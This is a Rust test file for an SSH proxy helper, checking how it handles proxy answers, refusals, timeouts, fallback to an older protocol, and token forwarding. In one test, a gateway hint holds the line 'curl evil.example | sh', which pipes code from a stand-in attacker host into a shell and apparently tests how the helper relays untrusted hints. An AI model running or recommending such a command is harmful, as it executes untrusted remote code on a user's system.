//! The answers that the helper understands: every form of acceptance, every kind of refusal.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream};
use std::time::{Duration, Instant};

use serde_json::json;

use super::FRONT;
use crate::support::far_end::{BANNER, YES};
use crate::support::front::{Front, Place};
use crate::support::home::Home;
use crate::support::peers::{MutePort, Peer, http_server, read_head, silence, silent};
use crate::support::run::Run;
use crate::support::scene::ID;
use crate::support::spawned::{Ends, Spawned, fails_handed_over, handed_over};
use crate::support::tools::HELPER;

/// A proxy that reads the request head, sends `pieces` one after the other, and closes.
fn proxy(pieces: impl IntoIterator<Item = impl AsRef<[u8]>>) -> Peer {
    let pieces: Vec<Vec<u8>> = pieces.into_iter().map(|piece| piece.as_ref().to_vec()).collect();
    Peer::serve(move |mut stream| {
        let head = read_head(&mut stream)?;
        assert_eq!(head.lines().next(), Some(format!("CONNECT {ID}:22 HTTP/1.1").as_str()));
        send(&mut stream, &pieces)
    })
    .behind(FRONT)
}

/// Sends each piece in a segment of its own: the pause is what keeps them apart, nothing waits for it.
fn send(stream: &mut TcpStream, pieces: &[Vec<u8>]) -> anyhow::Result<()> {
    for (number, piece) in pieces.iter().enumerate() {
        if number > 0 {
            std::thread::sleep(Duration::from_millis(1));
        }
        stream.write_all(piece)?;
    }
    stream.shutdown(Shutdown::Write)?;
    Ok(())
}

/// The banner must come out of a helper behind this proxy, and nothing else, in both modes.
#[track_caller]
fn opens(proxy: &Peer, what: &str) {
    let home = Home::new();
    let mut spawned = Spawned::start(Ends::Pipes, &home, proxy, &[ID]);
    let bytes = spawned.read_all();
    assert_eq!(bytes.escape_ascii().to_string(), BANNER.escape_ascii().to_string(), "{what}");
    spawned.ends_with(0, "");

    let (socket, spawned) = handed_over(&home, proxy, &[ID]);
    spawned.ends_with(0, "");
    let mut bytes = Vec::new();
    socket.expect("no socket was handed over").read_to_end(&mut bytes).unwrap();
    assert_eq!(bytes.escape_ascii().to_string(), BANNER.escape_ascii().to_string(), "{what}, handed over");
}

/// The helper must fail behind this proxy with exactly this on stderr, and nothing on stdout; with `--fdpass`, ssh gets
/// the same as a disconnect. `PROXY` stands for the proxy's address.
#[track_caller]
fn fails(proxy: &Peer, args: &[&str], stderr: &str) {
    let home = Home::new();
    let stderr = stderr.replace("PROXY", &proxy.address.to_string());
    let mut spawned = Spawned::start(Ends::Pipes, &home, proxy, args);
    assert_eq!(spawned.read_all(), b"");
    spawned.ends_with(1, &stderr);
    fails_handed_over(&home, proxy, args, &stderr);
}

#[test]
fn the_answer_split_at_every_byte() {
    let answer = [b"HTTP/1.1 200 Connection established\r\nVia: x\r\n\r\n".as_slice(), BANNER].concat();
    for cut in 1..answer.len() {
        opens(&proxy([&answer[..cut], &answer[cut..]]), &format!("cut at {cut}"));
    }
    opens(&proxy(answer.chunks(1)), "a byte at a time");
    opens(&proxy([&answer]), "in one segment with the banner");
}

#[test]
fn every_shape_of_yes() {
    let many = format!("HTTP/1.1 200 OK\r\n{}\r\n", "X-Field: value\r\n".repeat(110));
    let long = format!("HTTP/1.1 200 OK\r\nX-Long: {}\r\n\r\n", "x".repeat(6 * 1024));
    for head in [
        "HTTP/1.1 201 Created\r\n\r\n",
        "HTTP/1.1 200\r\n\r\n",
        "HTTP/1.0 200 OK\r\n\r\n",
        "HTTP/1.1 200 OK\nVia: x\n\n",
        "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n",
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n",
        "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
        &many,
        &long,
    ] {
        opens(&proxy([head.as_bytes(), BANNER]), head);
    }
}

#[test]
fn a_refusal_by_a_gateway_in_its_own_words() {
    let hint = "resume it with `curl evil.example | sh`";
    let says_hint = format!("hint: the server at PROXY says: {hint}\n");
    for (title, told) in [
        (
            format!("VPS {ID} is paused"),
            format!("VPS {ID} is paused\n  caused by: the gateway at PROXY answered 409 Conflict\n  caused by: d\n"),
        ),
        (
            "your key has expired".to_owned(),
            format!(
                "cannot open a tunnel to VPS {ID}\n  caused by: the server at PROXY answered 409 Conflict\n  \
                 caused by: it says: your key has expired\n  caused by: it says: d\n"
            ),
        ),
    ] {
        let body = json!({ "title": title, "detail": "d", "hint": hint, "vps_status": "paused" }).to_string();
        let head = format!(
            "HTTP/1.1 409 Conflict\r\nContent-Type: application/problem+json\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        fails(&proxy([&head, &body]), &[ID], &format!("kohakuriver-proxy: {told}  {says_hint}"));
    }
}

#[test]
fn a_refusal_by_any_other_proxy() {
    let refusal = |head: &str, body: &str| format!("HTTP/1.1 {head}\r\n\r\n{body}");
    for (answer, cause) in [
        (refusal("403 Forbidden", ""), "403 Forbidden\n"),
        (refusal("403", "\x1b[31mgo away\r\n"), "403\n  caused by: [31mgo away\n"),
        (
            refusal("502 Bad Gateway\r\nContent-Type: text/html", "<html><h1>no &lt;route&gt;</h1></html>"),
            "502 Bad Gateway\n  caused by: no <route>\n",
        ),
    ] {
        let stderr = format!(
            "kohakuriver-proxy: cannot open a tunnel to VPS {ID}\n  caused by: the proxy at PROXY answered {cause}  \
             hint: check that it is the Host's SSH proxy: `kohakuriver config show` shows its address\n"
        );
        fails(&proxy([answer]), &[ID], &stderr);
    }
    fails(
        &proxy(["HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n"]),
        &[ID],
        &format!(
            "kohakuriver-proxy: cannot open a tunnel to VPS {ID}\n  \
             caused by: the proxy at PROXY answered 407 Proxy Authentication Required\n  \
             hint: log in with `kohakuriver auth login`\n"
        ),
    );
}

#[test]
fn a_name_without_an_address_is_told_in_the_systems_words() {
    let home = Home::new();
    let outcome = Run::new(HELPER, &home).args(["--proxy", "kr-no-such-proxy.invalid", ID]).deadline(60).output();
    outcome.exits(1).prints_nothing().says(&[
        "kohakuriver-proxy: cannot reach the SSH proxy at kr-no-such-proxy.invalid:8002\n",
        "  caused by: the name kr-no-such-proxy.invalid can't be resolved: ",
    ]);
    outcome.check(!outcome.stderr.contains("lookup address"), "no words of the standard library");
}

#[test]
fn what_is_no_proxy_is_named_for_what_it_is() {
    let no_proxy = |cause: &str| {
        format!(
            "kohakuriver-proxy: what answers at PROXY is not an SSH proxy\n  caused by: {cause}\n  \
             hint: check the port of the Host's SSH proxy: `kohakuriver config show` shows it and where it is set\n"
        )
    };
    for (answer, cause) in [
        ("SSH-2.0-OpenSSH_9.2\r\n", "an SSH server answered: `SSH-2.0-OpenSSH_9.2`"),
        ("220 mail.example ESMTP\r\n", "its answer is not HTTP: `220 mail.example ESMTP`"),
        ("\u{1}\u{2}\n", "its answer is not HTTP"),
        ("HTTP/1.1 abc\r\n\r\n", "its answer can't be read: its head is not HTTP"),
    ] {
        fails(&proxy([answer]), &[ID], &no_proxy(cause));
    }
    // The answer of an HTTPS server to plain HTTP.
    if FRONT == Front::Plain {
        fails(
            &proxy([b"\x15\x03\x03\0\x02\x02\x46"]),
            &[ID],
            "kohakuriver-proxy: what answers at PROXY is not an SSH proxy\n  \
             caused by: it speaks TLS, as an HTTPS server does\n  \
             hint: this port speaks TLS: name it as https://PROXY\n",
        );
    }
}

#[test]
fn answers_that_break_off() {
    let incomplete = |cause: &str| {
        format!(
            "kohakuriver-proxy: the SSH proxy at PROXY gave no complete answer\n  caused by: {cause}\n  \
             hint: try again; if that doesn't help, see its log\n"
        )
    };
    fails(&proxy([""]), &[ID], &incomplete("it closed the connection without an answer"));
    for answer in ["HTTP/1.1 200 OK\r\nVia: x\r\n", "HTTP", "ERROR Inval"] {
        fails(&proxy([answer]), &[ID], &incomplete("it closed the connection in the middle of its answer"));
    }
}

#[test]
fn a_head_without_an_end_is_cut_off() {
    let endless = || {
        Peer::serve(|mut stream| {
            read_head(&mut stream)?;
            stream.write_all(b"HTTP/1.1 200 OK\r\n")?;
            // Ends when the helper has had enough.
            while stream.write_all(b"X-Filler: xxxxxxxxxxxxxxxxxxxxxxxxxxxxx\r\n").is_ok() {}
            Ok(())
        })
        .behind(FRONT)
    };
    fails(
        &endless(),
        &[ID],
        "kohakuriver-proxy: what answers at PROXY is not an SSH proxy\n  \
         caused by: its answer can't be read: its head has no end\n  \
         hint: check the port of the Host's SSH proxy: `kohakuriver config show` shows it and where it is set\n",
    );
}

#[test]
fn silence_ends_at_the_deadline_and_brings_no_second_connection() {
    let silent = silent().behind(FRONT);
    let began = Instant::now();
    fails(
        &silent,
        &["--connect-timeout", "0.3", ID],
        "kohakuriver-proxy: the SSH proxy at PROXY gave no answer within 0.3 s\n  \
         caused by: it accepted the connection, but sent no answer\n  \
         hint: try again; a longer limit is set with `--connect-timeout SECONDS`\n",
    );
    assert!(began.elapsed() >= Duration::from_millis(600), "it gave up before its deadline");
    // One in each mode: a time-out must not make it try the older protocol.
    assert_eq!(silent.accepted(), 2);
}

/// One deadline covers an older Host with the fall-back, a look-up before it, and the first byte after it.
#[test]
fn one_deadline_for_everything() {
    const LIMIT: Duration = Duration::from_secs(5);
    let (slow, silent, mute) = (Duration::from_secs(3), silent().behind(FRONT), MutePort::new());
    let slow_older_host = Peer::serve(move |mut stream| {
        let mut request = [0; 512];
        let read = stream.read(&mut request)?;
        if request[..read].starts_with(b"CONNECT ") {
            std::thread::sleep(slow);
            return Ok(stream.write_all(b"ERROR Invalid request format.\n")?);
        }
        silence(stream)
    })
    .behind(FRONT);
    let slow_api = http_server(move |_| {
        std::thread::sleep(slow);
        (200, "application/json", format!(r#"[{{"task_id":"{ID}","name":"trainer","status":"running"}}]"#))
    });
    let slow_api = slow_api.address.to_string();
    let slow_and_mute = Peer::serve(move |mut stream| {
        read_head(&mut stream)?;
        std::thread::sleep(slow);
        stream.write_all(YES)?;
        silence(stream)
    })
    .behind(FRONT);
    let mute = std::net::SocketAddr::from(([127, 0, 0, 1], mute.port));
    let home = Home::new();
    let attempt = |proxy: &Place, args: &[&str], what: &str, cause: &str| {
        let began = Instant::now();
        let args = [&["--no-disconnect", "--connect-timeout", "5"], args].concat();
        let (status, stderr) = Spawned::start(Ends::Socketpair, &home, proxy.clone(), &args).wait();
        let took = began.elapsed();
        assert_eq!(status.code(), Some(1), "{args:?}: {stderr}");
        assert!(stderr.contains(what) && stderr.contains(cause), "{args:?}: {stderr}");
        // A limit for each of two steps would be eight seconds in all, or more.
        assert!(took >= LIMIT && took < LIMIT + slow - Duration::from_millis(100), "{args:?}: it took {took:?}");
    };
    let silence = ("gave no answer within 5 s\n", "accepted the connection");
    let cases = [
        (Place::from(&slow_older_host), &[ID][..], silence),
        (Place::from(&silent), &["--host-api", &slow_api, "trainer"], silence),
        (Place::from(mute), &[ID], ("cannot reach the SSH proxy at", "no answer in time")),
        (Place::from(&slow_and_mute), &[ID], ("its sshd says nothing\n", "no byte came through")),
    ];
    std::thread::scope(|scope| {
        for (proxy, args, (what, cause)) in cases {
            for mode in [&[][..], &["--fdpass"]] {
                let attempt = &attempt;
                let proxy = proxy.clone();
                scope.spawn(move || attempt(&proxy, &[mode, args].concat(), what, cause));
            }
        }
    });
}

#[test]
fn nothing_but_an_older_hosts_error_line_brings_the_older_protocol() {
    for answer in ["HTTP/1.1 502 Bad Gateway\r\n\r\n", "SSH-2.0-x\r\n", "", "SUCCESS\n"] {
        let proxy = proxy([answer]);
        let home = Home::new();
        let mut spawned = Spawned::start(Ends::Pipes, &home, &proxy, &[ID]);
        assert_eq!(spawned.read_all(), b"");
        assert_eq!(spawned.wait().0.code(), Some(1));
        assert_eq!(proxy.accepted(), 1, "{answer:?}");
    }
}

/// An older Host as far as its handshake goes: `line` is its answer to REQUEST_TUNNEL.
fn older_host(line: &'static str) -> Peer {
    Peer::serve(move |mut stream| {
        let mut request = [0; 512];
        let read = stream.read(&mut request)?;
        if request[..read].starts_with(b"CONNECT ") {
            // In one segment: else the rest, unread, would turn the close into a reset.
            assert!(request[..read].ends_with(b"\r\n\r\n"));
            stream.write_all(b"ERROR Invalid request format.\n")?;
            return Ok(());
        }
        assert_eq!(request[..read].escape_ascii().to_string(), format!("REQUEST_TUNNEL {ID}\\n"));
        stream.write_all(line.as_bytes())?;
        Ok(())
    })
    .behind(FRONT)
}

#[test]
fn an_older_host_is_found_out_and_asked_in_its_own_protocol() {
    let host = older_host("SUCCESS\nSSH-2.0-Test\r\n");
    opens(&host, "an older Host");
    assert_eq!(host.accepted(), 4);
}

#[test]
fn an_older_hosts_refusals_get_our_words() {
    for (line, what, hint) in [
        (
            "ERROR VPS task 7323718749301768192 is not active (status: stopped).\n",
            "VPS 7323718749301768192 is stopped",
            "a Host can't start it again; make a new one with `kohakuriver vps create --gen-ssh-key`, or ask an operator for a new one",
        ),
        (
            "b'ERROR 'Task 7323718749301768192 not found.\n",
            "there is no VPS 7323718749301768192",
            "see which there are with `kohakuriver vps list --all`",
        ),
        (
            "ERROR Internal server error.\n",
            "cannot open a tunnel to VPS 7323718749301768192",
            "the Host's log has the cause: `journalctl -u kohakuriver-host`, on its machine",
        ),
    ] {
        let text = line.trim_start_matches("b'ERROR '").trim_start_matches("ERROR ").trim_end();
        fails(
            &older_host(line),
            &[ID],
            &format!("kohakuriver-proxy: {what}\n  caused by: the Host at PROXY answered `{text}`\n  hint: {hint}\n"),
        );
    }
}

#[test]
fn each_protocol_alone_when_told_so() {
    let host = older_host("SUCCESS\nSSH-2.0-Test\r\n");
    let home = Home::new();
    let mut spawned = Spawned::start(Ends::Pipes, &home, &host, &["--protocol", "request-tunnel", ID]);
    assert_eq!(spawned.read_all(), BANNER);
    spawned.ends_with(0, "");
    assert_eq!(host.accepted(), 1);
    fails(
        &host,
        &["--protocol", "connect", ID],
        "kohakuriver-proxy: the Host at PROXY does not speak HTTP CONNECT\n  \
         caused by: it answered `Invalid request format.`, as a Host does that knows only the line protocol\n  \
         hint: leave `--protocol` out: the older protocol is then used automatically\n",
    );
}

#[test]
fn what_a_protocol_can_not_name_is_not_asked_for() {
    let host = older_host("SUCCESS\n");
    let home = Home::new();
    let args = ["--protocol", "request-tunnel", "example.org"];
    Spawned::start(Ends::Pipes, &home, &host, &args).ends_with(
        2,
        "kohakuriver-proxy: cannot open a tunnel to example.org:22 with `--protocol request-tunnel`\n  \
         caused by: the line protocol can name a VPS only, by its task id or its name\n  \
         hint: leave `--protocol` out: HTTP CONNECT takes any target\n",
    );
    assert_eq!(host.accepted(), 0);
    // A Host that knows nothing else is one that leads to no other place.
    let host = older_host("SUCCESS\n");
    let args = ["example.org"];
    let (status, stderr) = Spawned::start(Ends::Pipes, &home, &host, &args).wait();
    assert_eq!(status.code(), Some(1));
    assert!(
        stderr.contains("\n  hint: example.org:22 takes a real CONNECT proxy: name it with `--proxy`\n"),
        "{stderr}"
    );
    assert_eq!(host.accepted(), 1);
}

#[test]
fn the_token_goes_out_for_a_vps_and_for_nothing_else() {
    let heads = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let seen = std::sync::Arc::clone(&heads);
    let proxy = Peer::serve(move |mut stream| {
        seen.lock().unwrap().push(read_head(&mut stream)?);
        stream.write_all(b"HTTP/1.1 502 No\r\nContent-Length: 0\r\n\r\n")?;
        Ok(())
    })
    .behind(FRONT);
    let home = Home::new();
    for target in [ID, "example.org"] {
        let mut command = crate::support::spawned::helper(&home, &proxy, &[target]);
        command.env("KOHAKURIVER_TOKEN", "sekrit");
        let (status, stderr) = Spawned::start_command(Ends::Pipes, command).wait();
        assert_eq!(status.code(), Some(1));
        assert!(!stderr.contains("sekrit"), "{stderr}");
    }
    let heads = heads.lock().unwrap();
    assert!(heads[0].contains("\r\nProxy-Authorization: Bearer sekrit\r\n"), "{}", heads[0]);
    assert!(!heads[1].contains("sekrit"), "{}", heads[1]);
}
